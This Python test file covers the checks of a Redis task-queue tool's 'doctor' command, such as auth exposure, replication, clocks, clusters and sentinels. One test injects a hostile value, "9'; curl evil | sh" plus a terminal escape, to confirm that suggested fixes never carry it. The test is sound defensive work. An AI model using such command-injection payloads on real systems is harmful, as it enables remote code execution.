"""The checks of `taskslot doctor`: facts that are hard to make on a real server, and where the line is drawn."""

import dataclasses

import pytest
from taskslot.doctor.examine import examine, status
from taskslot.doctor.facts import Cluster, Facts, Host, Node, Sentinel
from taskslot.doctor.gather.cluster import failed_in
from taskslot.doctor.gather.sentinel import fields_of
from taskslot.overview import node_concerns
from taskslot.overview.attention import Severity
from taskslot.overview.node_info import UNREACHED, NodeInfo, read_node
from taskslot.overview.seen import Seen
from taskslot.replies import Info

GIB = 1024**3
FIELDS = {
    "redis_version": "8.2.3",
    "taskslot_version": "0.2.0",
    "role": "master",
    "aof_enabled": 1,
    "maxmemory": GIB,
    "used_memory": GIB // 10,
    "total_system_memory": 4 * GIB,
    "connected_slaves": 0,
    "taskslot_broken_queues": 0,
}
SETTINGS = {"bind": "10.0.0.7", "port": "6379", "protected-mode": "yes", "tls-port": "6380"}


def node(
    address="10.0.0.7:6379", user=("on",), settings=SETTINGS, slots=(), ahead_ms=0, took_ms=1, **fields
) -> Node:
    """A node that is as it should be, with some fields of INFO changed."""
    info = read_node(address, {**FIELDS, **fields}, slots, ahead_ms, took_ms)
    return Node(info, settings, frozenset(user))


def replica(address="10.0.0.8:6379", **fields) -> Node:
    """A replica."""
    return node(
        address, role="slave", master_link_status="up", master_host="10.0.0.7", master_port=6379, **fields
    )


def names(*nodes: Node, least=Severity.LOOK, **facts) -> list[str]:
    """The names of the findings."""
    found = examine(Facts(nodes or (node(),), "0.2.0", **facts))
    return [finding.name for finding in found if finding.severity >= least]


def test_a_good_node_has_no_findings_but_notes():
    """The exit status is 0 then."""
    assert names() == []
    assert status(examine(Facts((node(),), "0.2.0"))) == 0


def test_the_exit_status_is_that_of_the_worst_finding():
    """The worst comes first."""
    found = examine(Facts((node(taskslot_broken_queues=1, maxmemory=0),), "0.2.0"))
    assert [int(finding.severity) for finding in found][:2] == [2, 1]
    assert status(found) == 2
    assert status(examine(Facts((node(maxmemory=0),), "0.2.0"))) == 1


@pytest.mark.parametrize(
    ("settings", "user", "version", "severity"),
    [
        ({"bind": "* -::*", "protected-mode": "no"}, ("on", "nopass"), "8.2.3", Severity.ACT),
        ({"bind": "", "protected-mode": "no"}, ("on", "nopass"), "6.2.5", Severity.ACT),
        ({"bind": "* -::*", "protected-mode": "yes"}, ("on", "nopass"), "8.2.3", Severity.LOOK),
        # Before 7.0, any bind setting turns the protection off.
        ({"bind": "0.0.0.0", "protected-mode": "yes"}, ("on", "nopass"), "6.2.5", Severity.ACT),
        ({"bind": "", "protected-mode": "yes"}, ("on", "nopass"), "6.2.5", Severity.LOOK),
        ({"bind": "127.0.0.1 -::1", "protected-mode": "no"}, ("on", "nopass"), "8.2.3", None),
        ({"bind": "*", "protected-mode": "no"}, ("off", "nopass"), "8.2.3", None),
        ({"bind": "*", "protected-mode": "no"}, ("on",), "8.2.3", None),
        (
            {"bind": "*", "port": "0", "tls-port": "0", "protected-mode": "no"},
            ("on", "nopass"),
            "8.2.3",
            None,
        ),
    ],
)
def test_a_server_that_anybody_can_use_is_found(settings, user, version, severity):
    """It depends on where it listens, on the user `default`, and on the protection of this version."""
    made = node(settings={**SETTINGS, **settings}, user=user, redis_version=version)
    found = {one.name: one.severity for one in examine(Facts((made,), "0.2.0"))}
    assert found.get("no-password") == severity


def test_a_network_without_tls_is_a_note():
    """With a password it is fine, on a private network."""
    plain = node(settings={**SETTINGS, "tls-port": "0"})
    assert names(plain) == []
    assert "no-tls" in names(plain, least=Severity.KNOW)


def test_versions_that_do_not_fit_together_are_found():
    """A replica must not be older than its primary. A library of another minor version is worth a look."""
    assert names(node(), replica(taskslot_version="0.1.9")) == ["replica-module"]
    assert names(node(), replica(taskslot_version="0.2.1")) == []
    assert names(node(taskslot_version="0.10.0")) == ["library-version"]
    assert names(node(), node("b:1", taskslot_version="0.2.10")) == ["module-versions"]
    assert names(node(redis_version="5.0.1")) == ["old-server"]
    without = dataclasses.replace(replica(), info=dataclasses.replace(replica().info, module=""))
    assert names(node(), without) == ["module"]


def test_a_node_that_says_nothing_is_not_judged():
    """A user without the right to INFO does not hear that the module is missing."""
    silent = dataclasses.replace(node().info, module="", trouble="NOPERM", fields={}, maxmemory=-1)
    assert names(Node(silent)) == []


def test_a_replica_that_only_this_machine_can_not_reach_is_a_note():
    """Its primary hears from it, so it is not away; nothing else is known."""
    other = NodeInfo("c:1", "replica", primary="10.0.0.7:6379", link="up", trouble=UNREACHED)
    assert names(node(), Node(other)) == []
    assert "unknown" in names(node(), Node(other), least=Severity.KNOW)


@pytest.mark.parametrize(
    "fields",
    [
        {"taskslot_due_lag_ms": 2000}, {"taskslot_due_lag_ms": 20_000}, {"taskslot_broken_queues": 1},
        {"taskslot_warning_eviction": "x"}, {"taskslot_warning_durability": "x"}, {"taskslot_warning_new": "x"},
        {"used_memory": GIB}, {"used_memory": 85 * GIB // 100}, {"ahead_ms": 9000}, {"taskslot_version": ""},
        {"role": "slave", "master_link_status": "down"},
    ],
)  # fmt: skip
def test_doctor_says_what_top_and_the_page_say(fields):
    """With the same name, text and severity, and no second time."""
    found = {
        one.name: (one.severity, one.what) for one in examine(Facts((node(), node("b:1", **fields)), "0.2.0"))
    }
    (concern,) = node_concerns(node("b:1", **fields).info)
    assert found[concern.name] == (concern.severity, concern.text)


def test_what_a_server_says_is_no_command_and_no_control_character():
    """Its version is typed after `pip install`, its primary's address after `--url`."""
    evil = "9'; curl evil | sh; '\x1b[31m"
    facts = Facts(
        (node(taskslot_version=evil, maxmemory_policy=evil), replica(taskslot_version=evil)), "0.2.0"
    )
    alone = replica()
    alone = dataclasses.replace(alone, info=dataclasses.replace(alone.info, primary=evil))
    found = [*examine(facts), *examine(Facts((alone,), "0.2.0"))]
    assert {"library-version", "eviction", "only-a-replica"} <= {one.name for one in found}
    assert not [one.mend for one in found if "curl" in one.mend]


def test_replicas_that_would_lose_tasks_are_found():
    """Those that are behind, silent, or without their primary."""
    of = {"ip": "10.0.0.8", "port": 6379, "state": "online", "offset": 10**9, "lag": 0}
    primary = {"connected_slaves": 1, "master_repl_offset": 10**9}
    assert names(node(**primary, slave0=of), replica()) == []
    for bad in ({"state": "wait_bgsave"}, {"lag": 60}, {"offset": 10**9 - 10**8}):
        assert names(node(**primary, slave0={**of, **bad}), replica()) == ["replica-behind"]
    assert names(node(), replica(taskslot_version="0.2.0"), replica("c:1")) == []
    for lag, name in (("10", []), ("0", ["min-replicas-max-lag"]), ("600", ["min-replicas-max-lag"])):
        waits = {**SETTINGS, "min-replicas-to-write": "1", "min-replicas-max-lag": lag}
        assert names(node(settings=waits, **primary, slave0=of), replica()) == name
    lost = replica()
    assert names(node(), dataclasses.replace(lost, info=dataclasses.replace(lost.info, link="down"))) == [
        "link"
    ]


def test_a_replica_without_the_module_is_no_copy():
    """A crash without an append-only file loses as much with it as without. One that copies has no lag to speak of."""
    of = {"ip": "10.0.0.8", "port": 6379, "state": "online", "offset": 0, "lag": 0}

    def severity(copy: Node) -> Severity:
        host, _, port = copy.info.address.rpartition(":")
        facts = Facts(
            (node(aof_enabled=0, connected_slaves=1, slave0={**of, "ip": host, "port": int(port)}), copy),
            "0.2.0",
        )
        return next(one.severity for one in examine(facts) if one.name == "no-append-only-file")

    assert severity(replica()) == Severity.LOOK
    assert severity(replica(taskslot_version="")) == Severity.ACT
    copying = node(connected_slaves=1, slave0={**of, "state": "wait_bgsave"})
    (found,) = [one for one in examine(Facts((copying, replica()), "0.2.0")) if one.name == "replica-behind"]
    assert found.what.endswith("is still copying (wait_bgsave)")


def test_files_that_can_not_be_written_are_found():
    """Writes are refused then, or backups are old."""
    assert names(node(aof_last_write_status="err")) == ["aof-last-write-status"]
    assert names(node(aof_last_bgrewrite_status="err")) == ["aof-last-bgrewrite-status"]
    assert names(node(rdb_last_bgsave_status="err")) == ["rdb-last-bgsave-status"]


def test_clocks_are_compared_within_the_error_of_the_measurement():
    """A slow reply says nothing."""
    assert names(node(ahead_ms=1500)) == ["clock"]
    assert names(node(ahead_ms=-1500)) == ["clock"]
    assert names(node(ahead_ms=1500, took_ms=900)) == []
    assert names(node(ahead_ms=-600), node("b:1", ahead_ms=600)) == ["clocks"]
    assert names(node(taskslot_clock_skew_ms=-3000)) == ["clock"]


def test_late_and_broken_queues_are_found_by_name():
    """Names of clients can't control a terminal."""
    assert names(node(taskslot_due_lag_ms=900)) == []
    assert names(node(taskslot_due_lag_ms=1500)) == ["lag"]
    assert names(node(taskslot_warning_queue_size="1 queue above 256 MB")) == ["queue_size"]
    assert names(node(taskslot_warning_eviction="it is allkeys-lru")) == ["eviction"]
    facts = Facts((node(taskslot_warning_aof_cut="it was cut"),), "0.2.0")
    [cut] = [one for one in examine(facts) if one.name == "aof_cut"]
    assert cut.mend.startswith("BGREWRITEAOF")
    seen = Seen(
        infos={"ma\x1bil": broken("a gap"), "other": broken("")},
        places={"ma\x1bil": "10.0.0.7:6379", "other": "10.0.0.7:6379"},
    )
    facts = Facts((node(taskslot_broken_queues=1),), "0.2.0", seen=seen)
    [finding] = [one for one in examine(facts) if one.name == "broken"]
    assert finding.what == r"1 broken queue (ma\x1bil)"


def broken(why: str) -> Info:
    """The state of an empty queue, with the reason why it is broken."""
    texts = {"held_by": "", "broken": why}
    counts = {item.name: 0 for item in dataclasses.fields(Info) if item.default is dataclasses.MISSING}
    return Info(**{**counts, **texts})


def test_a_cluster_is_judged_as_a_whole():
    """Unserved slots, failed nodes, primaries without a replica, and uneven slots."""
    good = Cluster({"cluster_state": "ok", "cluster_slots_ok": "16384"})
    first = node("a:1", slots=[(0, 8191)], connected_slaves=1)
    second = node("b:1", slots=[(8192, 16383)], connected_slaves=1)
    assert names(first, second, cluster=good) == []
    assert names(first, node("b:1", slots=[(8192, 16383)]), cluster=good) == ["no-replica"]
    small = node("b:1", slots=[(0, 1000)], connected_slaves=1)
    assert names(first, small, cluster=good) == ["slots"]
    down = Cluster({"cluster_state": "fail", "cluster_slots_ok": "8192"}, ["b:1"])
    assert names(first, second, cluster=down) == ["cluster-state", "node-failed"]
    assert names(first, away=["b:1"], cluster=good)[0] == "away"


def test_failed_nodes_are_read_from_the_list_of_nodes():
    """`fail?` is only a suspicion of one node."""
    lines = (
        "07c3 127.0.0.1:30004@31004,host slave e7d1 0 1426238317239 4 connected\n"
        "67ed 127.0.0.1:30002@31002 master,fail - 0 1426238316232 2 connected 5461-10922\n"
        "292f 127.0.0.1:30003@31003 master,fail? - 0 1426238318243 3 connected\n"
    )
    assert failed_in(lines) == ["127.0.0.1:30002"]


def test_shards_on_few_servers_are_found():
    """Only if there are enough of them to be spread evenly."""
    from taskslot.shards import names as shard_names

    keys = shard_names("mail", 8)
    cluster = Cluster({"cluster_state": "ok", "cluster_slots_ok": "16384"})
    both = (
        node("a:1", slots=[(0, 8191)], connected_slaves=1),
        node("b:1", slots=[(8192, 16383)], connected_slaves=1),
    )
    infos = dict.fromkeys(keys, broken(""))
    uneven = Seen(infos=infos, places={key: "a:1" if at < 7 else "b:1" for at, key in enumerate(keys)})
    assert names(*both, cluster=cluster, seen=uneven) == ["shards"]
    even = Seen(infos=infos, places={key: "ab"[at % 2] + ":1" for at, key in enumerate(keys)})
    assert names(*both, cluster=cluster, seen=even) == []


def test_sentinels_must_be_able_to_vote():
    """Three of them, with a majority as the quorum, none away."""
    good = Sentinel("main", 3, 2, frozenset({"master"}), 5000)
    assert names(sentinel=good) == []
    for change, name in (
        ({"sentinels": 2}, "few-sentinels"),
        ({"quorum": 1}, "sentinel-quorum-low"),
        ({"away": ["a:26379"]}, "sentinel-away"),
        ({"flags": frozenset({"master", "s_down"})}, "sentinel-down"),
        ({"quorum_error": "NOQUORUM 1 usable Sentinels"}, "sentinel-quorum"),
    ):
        assert names(sentinel=dataclasses.replace(good, **change)) == [name]


def test_a_sentinels_reply_is_read_in_both_protocols():
    """A list in RESP2, a map in RESP3; clients make a set of the flags."""
    assert fields_of([b"quorum", b"2", b"flags", b"master,s_down"])["flags"] == "master,s_down"
    assert fields_of({"quorum": 2, b"flags": {"master"}}) == {"quorum": "2", "flags": "master"}


def test_settings_of_the_kernel_matter_if_the_server_is_large():
    """On a small server, they are a note."""
    assert names(host=Host(overcommit=0)) == []
    large = node(used_memory=3 * GIB, maxmemory=0)
    assert "overcommit" in names(large, host=Host(overcommit=0))
    assert "overcommit" not in names(large, host=Host(overcommit=1))
    off = node(settings={**SETTINGS, "disable-thp": "no"})
    assert names(off, host=Host(huge_pages="always")) == ["huge-pages"]
    assert names(off, host=Host(huge_pages="madvise")) == []
